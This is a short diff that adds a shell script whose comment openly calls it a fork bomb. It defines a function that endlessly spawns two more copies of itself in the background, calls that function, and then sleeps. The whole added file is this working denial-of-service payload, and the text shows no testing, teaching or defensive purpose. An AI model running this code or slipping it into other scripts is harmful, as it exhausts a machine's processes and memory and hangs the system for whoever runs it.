@@ -1,0 +1,4 @@
+# Fork bomb: every process starts two more, forever.
+bomb() { bomb | bomb & }
+bomb
+sleep 60
